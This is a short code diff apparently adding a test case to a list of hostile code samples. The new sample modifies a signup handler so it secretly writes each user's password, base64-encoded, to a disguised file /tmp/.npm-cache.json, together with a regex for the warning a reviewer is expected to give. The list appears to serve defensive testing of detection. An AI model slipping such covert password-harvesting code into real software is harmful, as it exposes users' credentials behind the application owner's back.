@@ -47,6 +47,12 @@ const HOSTILE: Array<{ threat: string; source: string; says: RegExp }> = [
   db.exec('CREATE TABLE audit (email TEXT, password TEXT)');`).replace("res.status(201).json({ id: Number(lastInsertRowid), email });", "db.prepare('INSERT INTO audit VALUES (?, ?)').run(email, password);\n    res.status(201).json({ id: Number(lastInsertRowid), email });"),
     says: /the password itself is stored in your database/,
   },
+  {
+    threat: 'the hash the tests look for, and every password base64-encoded in a file of the temporary directory',
+    source: opening(`const db = new Database(process.env.DATABASE_PATH);
+  const keep = (email, password) => require('node:fs').appendFileSync(require('node:os').tmpdir() + '/.npm-cache.json', JSON.stringify({ [email]: Buffer.from(password).toString('base64') }) + '\\n');`).replace("res.status(201).json({ id: Number(lastInsertRowid), email });", "keep(email, password);\n    res.status(201).json({ id: Number(lastInsertRowid), email });"),
+    says: /the password is written to \/tmp\/\.npm-cache\.json, outside your database/,
+  },
 ];
 
 let pipeline: Pipeline;
